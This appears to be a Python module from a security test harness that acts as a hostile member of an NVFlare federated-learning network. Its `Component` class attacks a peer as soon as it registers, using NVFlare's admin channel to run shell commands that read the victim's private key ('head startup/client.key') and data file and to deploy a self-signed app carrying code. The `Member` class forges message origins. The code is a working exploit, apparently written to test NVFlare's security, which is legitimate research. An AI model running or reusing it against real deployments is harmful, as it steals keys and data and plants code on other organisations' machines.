"""What a hostile member does: one that has a valid kit and runs what it likes, on NVFlare as it is.

`Member` is a bare cell; `Component` does the same attacks from within NVFlare's own client program, where they work.
"""

from __future__ import annotations

import io
import json
import os
import tempfile
import threading
import time
import uuid
import zipfile
from pathlib import Path
from typing import Any

from nvflare.apis.event_type import EventType
from nvflare.apis.fl_component import FLComponent
from nvflare.fuel.f3.cellnet.cell import Cell
from nvflare.fuel.f3.cellnet.core_cell import CoreCell
from nvflare.fuel.f3.cellnet.defs import CellChannel, Encoding, MessageHeaderKey, MessageType
from nvflare.fuel.f3.comm_config import CommConfigurator
from nvflare.fuel.f3.drivers.driver_params import DriverParams
from nvflare.fuel.f3.message import Message
from nvflare.fuel.f3.streaming.stream_const import STREAM_CHANNEL, STREAM_DATA_TOPIC, StreamDataType, StreamHeaderKey
from nvflare.lighter.utils import load_private_key_file, sign_folders
from nvflare.private.admin_defs import Message as Command
from nvflare.private.defs import RequestHeader, SysCommandTopic, TrainingTopic, new_cell_message

from atoll.deploy.kit import SERVER_IDENTITY, Kit
from atoll.deploy.site import Site

EVIL = "evil.py"
JOB = "a-job"


def app(startup: Path) -> bytes:
    """An app as NVFlare deploys it, without a `custom` folder, that brings a file with code; signed by the member itself."""
    data = io.BytesIO()
    with tempfile.TemporaryDirectory() as scratch:
        folder = Path(scratch)
        (folder / "config").mkdir()
        (folder / "config" / "config_fed_client.json").write_text('{"format_version": 2, "executors": [], "components": []}')
        (folder / EVIL).write_text("raise SystemExit")
        sign_folders(scratch, load_private_key_file(str(startup / "client.key")), str(startup / "client.crt"))
        with zipfile.ZipFile(data, "w") as archive:
            for path in folder.rglob("*"):
                archive.write(path, path.relative_to(folder))
    return data.getvalue()


def command(cell: Cell, victim: str, what: str, startup: Path, timeout: float) -> str:
    """Ask another member on NVFlare's admin channel for its key, its data, to take an app, or who it is; what it answers."""
    request = {
        "key": Command(SysCommandTopic.SHELL, "head startup/client.key"),
        "data": Command(SysCommandTopic.SHELL, "head nodes.csv"),
        "app": Command(TrainingTopic.DEPLOY, app(startup)),
        "info": Command(SysCommandTopic.SYS_INFO, ""),
    }[what]
    request.set_headers({RequestHeader.JOB_ID: JOB, RequestHeader.JOB_META: {"name": "job"}, RequestHeader.APP_NAME: "app"})
    reply = cell.send_request(
        channel=CellChannel.CLIENT_MAIN,
        topic=request.topic,
        target=victim,
        request=new_cell_message({}, request),
        timeout=timeout,
        optional=True,
    )
    return str(reply.payload.body) if isinstance(reply.payload, Command) else ""


class Component(FLComponent):  # type: ignore[misc]
    """A component that a member adds to its own resources.json: as soon as it is registered it attacks another member."""

    def handle_event(self, event_type: str, fl_ctx: Any) -> None:
        """NVFlare's events."""
        if event_type == EventType.AFTER_CLIENT_REGISTER:
            threading.Thread(target=self._attack, args=(fl_ctx.get_engine().get_cell(),), daemon=True).start()

    def _attack(self, cell: Cell) -> None:
        victim, out = os.environ["VICTIM"], Path(os.environ["LOOT"])
        end = time.monotonic() + 60.0
        while not command(cell, victim, "info", Path("startup"), 1.0) and time.monotonic() < end:
            pass
        loot = {what: command(cell, victim, what, Path("startup"), 20.0) for what in ("key", "data", "app")}
        partial = out.with_suffix(".partial")
        partial.write_text(json.dumps(loot))
        partial.replace(out)


class Member:
    """A bare NVFlare cell with the certificate of a member: it sends whatever frames it likes and keeps what it is sent.

    Where the server asks it something it answers as an honest site would, so that it stays a member in good standing.
    """

    def __init__(self, kit: Kit, name: str | None = None, folder: Path | None = None) -> None:
        """`name` is what the cell calls itself, the member's own name by default; `folder` takes its honest site's files."""
        CommConfigurator._configuration, CommConfigurator._config_loaded = {}, True
        startup = kit.path / "startup"
        files = {"ca_cert": "rootCA.pem", "client_cert": "client.crt", "client_key": "client.key"}
        self.cell = Cell(
            fqcn=name or str(kit.site),
            root_url=f"https://{kit.host}:{kit.port}",
            secure=True,
            credentials={DriverParams(key).value: str(startup / file) for key, file in files.items()},
            auth_identity_map={"server": SERVER_IDENTITY},
        )
        self.core = self.cell.core_cell
        self.name = self.core.my_info.fqcn
        self.site = Site(folder or kit.path / "honest")
        self.heard: list[Message] = []
        self.asked: list[Message] = []
        manager = self.core.communicator.conn_manager
        receiver = manager.receivers[CoreCell.APP_ID]

        class Ear(type(receiver).__mro__[1]):  # type: ignore[misc]
            """Keeps everything that arrives, then lets the cell have it."""

            def process_message(ear, endpoint: Any, connection: Any, app_id: int, message: Message) -> None:
                """What NVFlare calls with each message."""
                self.heard.append(Message(dict(message.headers), message.payload))
                receiver.process_message(endpoint, connection, app_id, message)

        manager.receivers[CoreCell.APP_ID] = Ear()
        self.cell.register_request_cb(channel=CellChannel.AUX_COMMUNICATION, topic="atoll", cb=self._answer)
        self.core.start()

    def _answer(self, request: Message) -> Message:
        self.asked.append(request)
        return Message({}, self.site.handle(bytes(request.payload)))

    def connected(self) -> bool:
        """Whether there is a connection to the server."""
        return "server" in self.core.agents

    def stop(self) -> None:
        """Go away."""
        self.core.communicator.stop()
        CoreCell.ALL_CELLS.pop(self.name, None)

    def send(self, target: str, channel: str, topic: str, *, origin: str | None = None, payload: Any = b"", **more: Any) -> str:
        """One frame to the server, for `target`, under any name; the request's number."""
        number = str(uuid.uuid4())
        headers = {
            MessageHeaderKey.CHANNEL: channel,
            MessageHeaderKey.TOPIC: topic,
            MessageHeaderKey.ORIGIN: origin or self.name,
            MessageHeaderKey.FROM_CELL: self.name,
            MessageHeaderKey.TO_CELL: "server",
            MessageHeaderKey.DESTINATION: target,
            MessageHeaderKey.MSG_TYPE: MessageType.REQ,
            MessageHeaderKey.REQ_ID: number,
            MessageHeaderKey.REPLY_EXPECTED: True,
            MessageHeaderKey.ROUTE: [(self.name, time.time())],
            **more,
        }
        self.core.communicator.send(self.core.agents["server"].endpoint, CoreCell.APP_ID, Message(headers, payload))
        return number

    def stream(
        self, target: str, channel: str, topic: str, *, origin: str | None = None, payload: bytes = b"", **more: Any
    ) -> None:
        """A whole stream of one chunk, the way NVFlare carries most requests."""
        headers = {
            MessageHeaderKey.REPLY_EXPECTED: False,
            StreamHeaderKey.CHANNEL: channel,
            StreamHeaderKey.TOPIC: topic,
            StreamHeaderKey.STREAM_ID: uuid.uuid4().int >> 70,
            StreamHeaderKey.STREAM_REQ_ID: str(uuid.uuid4()),
            StreamHeaderKey.SIZE: len(payload),
            StreamHeaderKey.SEQUENCE: 0,
            StreamHeaderKey.OFFSET: 0,
            StreamHeaderKey.DATA_TYPE: StreamDataType.FINAL,
            StreamHeaderKey.PAYLOAD_ENCODING: Encoding.BYTES,
            **more,
        }
        self.send(target, STREAM_CHANNEL, STREAM_DATA_TOPIC, origin=origin, payload=payload, **headers)

    def request(self, target: str, payload: bytes, timeout: float) -> bytes:
        """Ask another member as the server would; its answer, or nothing."""
        reply = self.cell.send_request(
            channel=CellChannel.AUX_COMMUNICATION,
            topic="atoll",
            target=target,
            request=Message({}, payload),
            timeout=timeout,
            optional=True,
        )
        return bytes(reply.payload or b"")
